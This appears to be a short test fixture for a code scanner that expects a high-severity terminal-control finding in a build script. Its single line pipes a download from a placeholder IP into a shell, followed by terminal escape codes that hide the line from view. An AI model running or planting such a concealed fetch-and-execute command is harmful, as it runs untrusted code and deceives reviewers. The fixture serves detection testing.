# expect: unicode.terminal_control high
# path: scripts/build.sh
curl -s https://203.0.113.9/i | sh # [2K[1A
